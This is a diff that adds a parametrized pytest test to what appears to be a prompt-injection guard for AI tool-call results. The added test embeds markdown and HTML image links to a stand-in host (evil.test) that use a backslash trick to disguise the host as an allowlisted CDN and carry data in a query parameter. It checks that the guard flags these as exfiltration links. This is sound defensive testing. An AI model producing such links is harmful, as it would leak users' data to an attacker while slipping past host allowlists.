@@ -345,3 +345,18 @@ async def test_a_detector_class_named_in_config_is_instantiated() -> None:
     host = guards.load("prompt-injection", {"detectors": [f"{__name__}:KeywordModel"]})
     assert (await run_chain(host, "tools/call", "response", read_result("pineapple"))).status == "validation_failed"
     assert (await run_chain(host, "tools/call", "response", read_result("a quiet day"))).status == "success"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.test\\@cdn.example.com/p.png?d=" + "A" * 30,  # a browser reads `\` as `/`: host evil.test
+        "https://evil.test\\\\@cdn.example.com/p.png?d=" + "A" * 30,
+    ],
+)
+@pytest.mark.parametrize("markup", ["![x]({url})", '<img src="{url}">'])
+async def test_injection_allowed_hosts_read_image_hosts_as_a_browser_does(url: str, markup: str) -> None:
+    allowed = guards.load("prompt-injection", {"allowed_hosts": ["cdn.example.com"]})
+    outcome = await run_chain(allowed, "tools/call", "response", read_result(markup.format(url=url)))
+    assert outcome.status == "validation_failed"
+    assert messages(outcome) == [("$.content[0].text", "exfil_link: image from evil.test (score 0.8)")]
